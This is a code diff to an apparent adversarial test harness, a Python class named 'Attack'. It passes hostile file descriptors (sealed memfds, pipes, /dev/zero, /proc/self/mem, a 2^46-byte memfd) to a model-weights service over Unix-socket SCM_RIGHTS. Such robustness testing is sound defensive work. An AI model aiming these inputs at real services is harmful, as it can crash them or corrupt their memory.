@@ -239,22 +239,35 @@ class Attack:
             for _ in self.again():
                 connection.read_frame()
 
+    def give_weights(self, number, size, file, on_device=False):
+        with self.weights() as peer:
+            request = self.messages.weights.WeightsRequest(version=1)
+            request.take.key, request.take.size_bytes = struct.pack("<Q", number) * 4, size
+            request.take.on_device = on_device
+            peer.send(request.SerializeToString())
+            peer.recv(1 << 16)
+            request = self.messages.weights.WeightsRequest(version=1)
+            request.give.SetInParent()
+            peer.sendmsg([request.SerializeToString()],
+                         [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
+            peer.recv(1 << 16)
+
     def weights_of_holes(self):
         for i, _ in enumerate(self.again()):
-            with self.weights() as peer:
-                size = 1 << 30
-                file = os.memfd_create("hollow", os.MFD_ALLOW_SEALING)
-                os.ftruncate(file, size)
-                fcntl.fcntl(file, 1033, 15)  # F_ADD_SEALS
-                request = self.messages.weights.WeightsRequest(version=1)
-                request.take.key, request.take.size_bytes = struct.pack("<Q", i) * 4, size
-                peer.send(request.SerializeToString())
-                peer.recv(1 << 16)
-                request = self.messages.weights.WeightsRequest(version=1)
-                request.give.SetInParent()
-                peer.sendmsg([request.SerializeToString()],
-                             [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
-                peer.recv(1 << 16)
+            size = 1 << 30
+            file = os.memfd_create("hollow", os.MFD_ALLOW_SEALING)
+            os.ftruncate(file, size)
+            fcntl.fcntl(file, 1033, 15)  # F_ADD_SEALS
+            self.give_weights(i, size, file)
+            os.close(file)
+
+    def weights_of_no_gpu(self):
+        for i, _ in enumerate(self.again()):
+            files = [*os.pipe(), os.open("/dev/zero", os.O_RDWR), os.open("/proc/self/mem", os.O_RDWR),
+                     os.memfd_create("large")]
+            os.ftruncate(files[-1], 1 << 46)
+            for k, file in enumerate(files):
+                self.give_weights(8 * i + k, 1 << 46, file, on_device=True)
                 os.close(file)
 
     # --- what makes no sense ---
